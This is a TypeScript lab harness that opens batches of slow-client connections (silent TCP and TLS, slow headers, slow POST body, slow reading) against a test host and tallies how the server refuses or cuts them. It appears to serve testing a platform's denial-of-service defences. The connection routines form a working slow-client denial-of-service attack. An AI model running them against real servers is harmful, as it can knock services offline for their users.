/**
 * Slow clients of every kind, until standard input ends; then prints what became of them. Runs inside a host of the lab.
 *
 *   node slow.ts '{"host":"target.apps.test","address":"203.0.113.1","ca":"/run/lab/platform-ca.pem","each":40,"large":"/big.bin"}'
 */
import { readFileSync } from 'node:fs';
import { connect as connectTcp, type Socket } from 'node:net';
import { setTimeout as sleep } from 'node:timers/promises';
import { connect as connectTls } from 'node:tls';
import type { SlowKind, SlowPlan, SlowResult } from './slow-model.ts';

const plan = JSON.parse(process.argv[2]!) as SlowPlan;
const ca = readFileSync(plan.ca, 'utf8');
const stop = new AbortController();
const tcp = (): Socket => connectTcp({ host: plan.address, port: 443 });
const tls = (): Socket =>
  connectTls({ host: plan.address, port: 443, servername: plan.host, ca, ALPNProtocols: ['http/1.1'] });

/** Writes a byte a second for as long as it is let. */
async function trickle(socket: Socket): Promise<void> {
  while (!socket.destroyed && !stop.signal.aborted) {
    socket.write('a');
    await sleep(1000);
  }
}

/** Reads two kilobytes a second. */
async function sip(socket: Socket): Promise<void> {
  socket.pause();
  while (!socket.destroyed && !stop.signal.aborted) {
    socket.read(2048);
    await sleep(1000);
  }
}

const head = (line: string, more = ''): string => `${line} HTTP/1.1\r\nHost: ${plan.host}\r\n${more}`;
const ATTACKS: Record<SlowKind, () => Socket> = {
  silentTcp: tcp,
  silentTls: tls,
  slowHeaders() {
    const socket = tls();
    socket.once('secureConnect', () => {
      socket.write(head('GET /', 'X-Slow: '));
      void trickle(socket);
    });
    return socket;
  },
  slowBody() {
    const socket = tls();
    socket.once('secureConnect', () => {
      socket.write(head('POST /', 'Content-Length: 100000\r\n\r\n'));
      void trickle(socket);
    });
    return socket;
  },
  slowReader() {
    const socket = tls();
    socket.once('secureConnect', () => {
      socket.write(head(`GET ${plan.large}`, '\r\n'));
      void sip(socket);
    });
    return socket;
  },
};

const result: SlowResult = { kinds: {} };

function one(kind: SlowKind): Socket {
  const count = result.kinds[kind] ?? { opened: 0, refused: 0, cut: 0, open: 0, seconds: [], statuses: {} };
  result.kinds[kind] = count;
  count.open += 1;
  const started = performance.now();
  const socket = ATTACKS[kind]();
  let established = false;
  let first = '';
  socket.once(kind === 'silentTcp' ? 'connect' : 'secureConnect', () => {
    established = true;
    count.opened += 1;
  });
  socket.on('error', () => {});
  // A paused one is read by `sip`; its status line is not of interest.
  if (kind !== 'slowReader')
    socket.setEncoding('latin1').on('data', (text: string) => {
      first ||= text;
    });
  socket.once('close', () => {
    count.open -= 1;
    if (stop.signal.aborted) return;
    const seconds = (performance.now() - started) / 1000;
    // A connection that ends at once, without a word, was not let in.
    if (!established || (seconds < 1 && first === '')) {
      count.refused += 1;
      return;
    }
    count.cut += 1;
    count.seconds.push(Math.round(seconds * 10) / 10);
    const status = /^HTTP\/1\.1 (\d{3})/.exec(first)?.[1];
    if (status) count.statuses[status] = (count.statuses[status] ?? 0) + 1;
  });
  return socket;
}

const sockets: Socket[] = [];
for (let n = 0; n < plan.each; n += 1) {
  for (const kind of Object.keys(ATTACKS) as SlowKind[]) sockets.push(one(kind));
  await sleep(20);
}
await new Promise((resolve) => process.stdin.resume().once('end', resolve));
console.log(JSON.stringify(result));
stop.abort();
for (const socket of sockets) socket.destroy();
process.exit(0);
